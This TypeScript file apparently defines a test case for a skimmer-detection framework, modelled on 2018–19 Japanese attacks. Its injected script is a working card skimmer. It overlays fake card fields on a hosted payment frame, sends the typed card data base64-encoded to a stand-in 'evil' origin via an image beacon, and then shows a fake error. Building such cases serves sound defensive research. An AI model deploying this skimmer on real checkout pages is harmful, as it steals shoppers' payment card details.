import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';

export default skimmer({
  id: 'overlay-hosted',
  why: "Card fields of its own laid over the provider's frame; what was typed goes out, an error is shown, and the real payment goes on (Japan 2018-19; hardest 3).",
  covers: ['injection: fake form', 'hard: overlay', 'trigger: once'],
  base: 'hosted',
  install: (site) =>
    site.append(js`(function () {
  if (sessionStorage.getItem('_seen')) return;
  var box = document.getElementById('card-area');
  var over = document.createElement('div');
  over.style.cssText = 'position:absolute;inset:0;background:#fff;z-index:9';
  over.innerHTML = [['cc-number', 'カード番号'], ['cc-exp', '有効期限（月/年）'], ['cc-csc', 'セキュリティコード'], ['cc-name', 'カード名義人']].map(function (f) {
    return '<label>' + f[1] + '<input autocomplete="' + f[0] + '"></label>';
  }).join('');
  box.append(over);
  document.getElementById('checkout').addEventListener('submit', function (event) {
    if (!over.isConnected) return;
    event.preventDefault();
    event.stopImmediatePropagation();
    var typed = Array.from(over.querySelectorAll('input')).map(function (i) { return i.value; }).join('|');
    new Image().src = '${site.origins.evil}/s.gif?d=' + encodeURIComponent(btoa(unescape(encodeURIComponent(typed))));
    sessionStorage.setItem('_seen', '1');
    over.remove();
    var error = document.getElementById('payment-error');
    error.textContent = 'カード情報をご確認のうえ、もう一度ご入力ください。';
    error.hidden = false;
  }, true);
})();`),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
